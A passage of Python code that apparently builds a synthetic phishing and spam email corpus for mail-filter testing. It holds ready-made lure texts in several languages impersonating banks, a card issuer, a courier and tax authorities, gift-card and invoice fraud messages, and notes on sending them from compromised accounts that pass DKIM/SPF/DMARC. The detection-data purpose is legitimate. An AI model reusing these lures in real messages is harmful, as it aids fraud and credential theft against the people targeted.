             send=dict(charset="iso-2022-jp", subj_charset="iso-2022-jp", html_charset="iso-2022-jp", text_cte="7bit", html_cte="7bit")),
        dict(ch="ses", lang="ja", fname="三井住友カード", brand="smbc", summ="【三井住友カード】ご利用確認のお願い",
             paras=["いつも三井住友カードをご利用いただきありがとうございます。", "お客様のカードに第三者による不正利用の可能性がある取引を検知いたしました。", "ご本人確認のため、以下よりご利用内容をご確認ください。"], btn="ご利用確認はこちら"),
        dict(ch="php", lang="zh", fname="财务部", brand="tax", summ="关于2024年度个人所得税退税的通知",
             paras=["各位同事：", "根据国家税务总局最新规定，2024年度个人所得税退税申请已开始办理。", "请于{date}前登录下方链接完成申报，逾期视为自动放弃。"], btn="立即申请",
             send=dict(charset="gb2312")),
        dict(ch="icloud", lang="zh", fname="顺丰速运", brand="sf", summ="您的快递因地址不详无法派送",
             desc="尊敬的客户：您的快递（运单号SF{n}）因地址不详无法派送，请在24小时内点击链接更新地址：{link}"),
        dict(ch="php", lang="ar", fname="مصرف الراجحي", brand="alrajhi", summ="تنبيه: تم تعليق حسابك مؤقتاً",
             paras=["عميلنا العزيز،", "نود إبلاغك بأنه تم تعليق حسابك مؤقتاً بسبب عدم تحديث بياناتك.", "يرجى تحديث بياناتك قبل {date} لتجنب إيقاف الخدمة."], btn="تحديث البيانات",
             send=dict(charset="windows-1256")),
        dict(ch="ses", lang="ar", fname="جوائز العملاء", brand="prize", summ="تهانينا! لقد ربحت قسيمة شرائية بقيمة 1000 ريال",
             paras=["تهانينا!", "تم اختيارك للفوز بقسيمة شرائية بقيمة 1000 ريال.", "أكمل الاستبيان القصير للحصول على جائزتك."], btn="احصل على جائزتك"),
        dict(ch="php_shared", lang="tr", fname="e-Devlet", brand="edevlet", summ="Vergi iadeniz hazır: 1.845,00 TL",
             paras=["Sayın vatandaşımız,", "2024 yılına ait 1.845,00 TL tutarındaki vergi iadeniz hesabınıza aktarılmayı beklemektedir.", "İade işlemini {date} tarihine kadar tamamlayınız."], btn="İadeyi al",
             send=dict(charset="iso-8859-9")),
        dict(ch="google", lang="tr", fname="Migros Hediye", brand="migros", summ="Tebrikler! 5.000 TL değerinde hediye çeki kazandınız",
             desc="Tebrikler {name}!\nMüşteri anketimizi tamamladığınız için 5.000 TL değerinde hediye çeki kazandınız.\nHediyenizi almak için: {link}"),
    ]
    for it in M:
        if it["lang"] in ("ja", "zh", "ar", "ru", "tr", "pl", "br"):
            it.setdefault("tz", {"br": "America/Sao_Paulo"}.get(it["lang"]))
        if it["lang"] == "br":
            it["lang"] = "pt"
            it["tz"] = "America/Sao_Paulo"
        it["send"] = dict(it.get("send", {}))
        if it["ch"] in ("php",) and it["lang"] in ("ja",):
            it["send"]["layout"] = "mixed_alt_attach"
    return run_items(r, M, ((2018, 1, 1), (2026, 10, 31)), "native-language phish")


# ----------------------------------------------------------------------------------------------- internal-compromised
def internal_compromised(r):
    out = []
    PRODS = [("-//Roundcube 1.6.9//Sabre VObject 4.5.5//EN", "sabre", "webmail.example.net"),
             ("-//Inverse inc./SOGo 5.10.0//EN", "generic", "sogo.example.net"),
             ("-//The Horde Project//Horde iCalendar Library//EN", "generic", "horde.example.net"),
             ("-//Nextcloud calendar v4.7.4", "sabre", "cloud.example.net")]
    I = [
        ("Shared document: Q3 bonus allocation", "Hi all,\nplease review the Q3 bonus allocation before our meeting:\n{link}\nThanks", "cloud"),
        ("Quick favor", "Are you available? I'm in a meeting and need you to buy 5 Apple gift cards for client gifts. I'll reimburse you today. Reply to this email.", None),
        ("Invoice to process today", "Hello,\nthe attached invoice must be paid today, the supplier changed their bank details:\n{link}\nBest regards", "hyphen"),
        ("Lunch + a great investment tip", "Hey!\nLet's do lunch on Friday. Also check out this crypto platform, I made 40% last month: {link}", "short"),
        ("IT: mandatory mailbox migration", "All staff must re-authenticate their mailbox for the migration this weekend:\n{link}\nIT Team", "ip"),
        ("Webinar: earn €3,000/month from home", "Join this free webinar and learn how to earn €3,000 a month from home. Register: {link}", "short"),
        ("Payroll portal update – verify by Friday", "The payroll portal has moved. Verify your login and bank details by Friday: {link}", "sub"),
        ("Teams meeting: Salary adjustment discussion", "Please join to discuss your salary adjustment.\nJoin: {link}", "sub"),
        ("Dringend: Rückruf erbeten", "Hallo,\nbitte ruf mich dringend unter +49 1525 555 01 73 zurück, es geht um eine offene Zahlung.\nGruß", None),
        ("Document partagé : Contrat 2025", "Bonjour,\nje vous ai partagé le contrat 2025 pour signature :\n{link}\nCordialement", "cloud"),
        ("Factuur openstaand", "Hoi,\nkun je deze openstaande factuur vandaag nog betalen? Details: {link}", "path"),
        ("Password reset required for all staff", "Due to a security incident all staff must reset their password today: {link}", "short"),
        ("Coffee? 😊", "Hi, I saw your profile on the team page… want to chat privately? My pictures: {link}", "short"),
        ("Company raffle winner!", "Congratulations, you won the company raffle! Claim your €200 Amazon voucher: {link}", "hyphen"),
        ("Voicemail from +1 (646) 555-0134", "You have a new voicemail (0:52). Listen: {link}", "cloud"),
        ("Actualización de nómina", "Hola,\nRecursos Humanos ha actualizado el portal de nóminas. Confirma tus datos bancarios: {link}", "sub"),
    ]
    for i, (summ, desc, lk) in enumerate(I):
        arr = arrival_between(r, (2017, 1, 1), (2026, 10, 31))
        to = rcpt(r)
        frm = person(r, "example.net")
        link = phish_url(r, "portal", lk) if lk else ""
        d = desc.format(link=link)
        ev = spam_event(r, arr, summary=summ, description=d, organizer=frm, attendee=to, tz="Europe/Berlin", days=r.choice([0, 1, 2]), hour=r.randint(9, 16))
        if i == 5:
            ev.attendees = [Att(person(r, "example.net")[1]) for _ in range(60)] + [Att(to[1])]
        mode = i % 4
        if mode == 0:
            b = thunderbird_mail(r, arr=arr, org=frm, rcpts=[to], ev=ev, lang="en", route_kind="internal", route_kw=dict(user=frm[1]))
            how = "Thunderbird over authenticated submission"
        elif mode == 1:
            pid, st, wm = r.choice(PRODS)
            ev.created = arr - dt.timedelta(minutes=2)
            ics = vcal([ev], "REQUEST", st, prodid=pid, stamp=arr)
            text = {"sabre": f"{frm[0]} has invited you to \"{summ}\".\n\n", "generic": f"Invitation: {summ}\n\n"}[st] + d
            b = generic_mail(r, arr=arr, frm=frm, to=to, subject=f"Invitation: {summ}", ics=ics, layout=r.choice(["alt_plain_cal", "mixed_plain_cal_ics", "alt_cal"]),
                             text=text, html=f"<html><body><p>{esc_html(text).replace(chr(10), '<br>')}</p></body></html>", route_kind="internal",
                             route_kw=dict(webmail=wm, user=frm[1]), bstyle=r.choice(["sabre", "horde", "random"]), text_cte="quoted-printable",
                             hdr_extra=[("User-Agent", r.choice(["Roundcube Webmail/1.6.9", "SOGoMail 5.10.0", "Horde Application Framework 5", "Nextcloud"]))])
            how = f"webmail calendar ({pid.split('//')[1]})"
        elif mode == 2:
            b = outlook_inline(r, arr=arr, org=frm, rcpts=[to], ev=ev, lang="en", route_kind="internal", auth_kw=dict(user=frm[1]))
            how = "Outlook desktop (inline text/calendar) over authenticated submission"
        else:
            pid = "-//Apple Inc.//macOS 14.6.1//EN"
            ics = vcal([ev], "REQUEST", "macos", prodid=pid, stamp=arr)
            b = generic_mail(r, arr=arr, frm=frm, to=to, subject=summ, ics=ics, layout="mixed_alt_attach", text=d,
                             html=f"<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\"></head><body style=\"overflow-wrap: break-word;\">{esc_html(d).replace(chr(10), '<br>')}</body></html>",
                             route_kind="internal", route_kw=dict(user=frm[1]), bstyle="apple", filename="invite.ics",
                             attach_ct='text/calendar; charset=utf-8; method=REQUEST; name="invite.ics"', text_cte="quoted-printable",
                             msgid=f"<{r.uuid4().upper()}@example.net>", hdr_extra=[("X-Mailer", "Apple Mail (2.3776.700.51)")])
            how = "Apple Mail/Calendar over authenticated submission"
        out.append((b, f"compromised example.net account (dkim/spf/dmarc pass, same domain as recipient) via {how}: {summ}" + ("; 60 internal attendees" if i == 5 else "")))
    return out
